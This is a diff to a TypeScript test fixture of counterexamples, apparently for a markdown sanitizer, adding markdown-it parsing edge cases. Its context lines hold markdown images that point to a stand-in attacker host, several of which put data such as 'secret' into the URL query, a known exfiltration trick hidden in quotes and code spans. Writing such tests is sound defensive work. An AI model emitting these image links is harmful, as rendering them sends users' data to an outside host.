@@ -125,6 +125,10 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   ["images", 'aa <b title="`">![`](//evil.example/)'],
   ["images", "- <b title='>`'>![`](//evil.example/)"],
   ["images", "aa <!--a>`-->![`](//evil.example/)"],
+  // Behind an open bracket markdown-it 14 makes text of code, once a backtick follows that nothing closes.
+  ["markup", "[ `<style>` * {} `"],
+  ["markup", '![ `<b class="a">` aa `'],
+  ["markup", "![`]<style>`[a]`"],
   // Every line of a quote has its mark, also within an address or a tag; renderers take it away.
   ["images", "> ![a](\n> https://evil.example/?d=secret)"],
   ["images", "![a]\n\n> [a]:\n> https://evil.example/?d=secret"],
